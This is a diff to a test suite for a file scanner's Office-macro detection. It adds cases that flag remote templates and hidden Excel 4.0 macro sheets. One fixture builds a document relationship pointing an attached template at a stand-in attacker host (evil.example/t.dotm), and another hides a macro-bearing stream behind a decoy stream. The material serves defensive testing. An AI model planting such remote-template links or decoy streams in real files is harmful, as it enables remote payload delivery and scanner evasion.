@@ -199,15 +199,17 @@ describe('built-in engine: Office macros', () => {
     expect(r.rules).toContain('office-macros');
   });
 
-  it('rejects a document with a remote template', async () => {
-    const rels =
-      '<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>';
-    const r = await scan(
-      'cv.docx',
-      buildOoxml('docx', { extra: [{ name: 'word/_rels/settings.xml.rels', data: rels }] }),
-    );
-    expect(r.rules).toContain('office-external-content');
-  });
+  it.each(['"', "'"])(
+    'rejects a document with a remote template, its attributes quoted with %s',
+    async (q) => {
+      const rels = `<Relationships><Relationship Id=${q}rId9${q} Type=${q}http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate${q} Target=${q}http://evil.example/t.dotm${q} TargetMode=${q}External${q}/></Relationships>`;
+      const r = await scan(
+        'cv.docx',
+        buildOoxml('docx', { extra: [{ name: 'word/_rels/settings.xml.rels', data: rels }] }),
+      );
+      expect(r.rules).toContain('office-external-content');
+    },
+  );
 
   it('rejects an executable embedded in a document', async () => {
     const r = await scan(
@@ -233,6 +235,16 @@ describe('built-in engine: Office macros', () => {
   it('rejects a legacy .xls with an Excel 4.0 macro sheet', async () => {
     const ole = buildOle([{ name: 'Workbook', data: buildWorkbookStream(true) }]);
     expect((await scan('old.xls', ole)).rules).toContain('office-macros');
+  });
+
+  it('looks for Excel 4.0 macro sheets in every workbook stream: Excel 95 Book, and past a decoy', async () => {
+    const book = buildOle([{ name: 'Book', data: buildWorkbookStream(true) }]);
+    expect((await scan('old.xls', book)).rules).toEqual(['office-macros']);
+    const decoy = buildOle([
+      { name: 'Workbook', data: buildWorkbookStream(false) },
+      { name: 'Workbook', data: buildWorkbookStream(true) },
+    ]);
+    expect((await scan('old.xls', decoy)).rules).toEqual(['office-macros']);
   });
 
   it('reads a Workbook stream from regular sectors as well as from the mini stream', async () => {
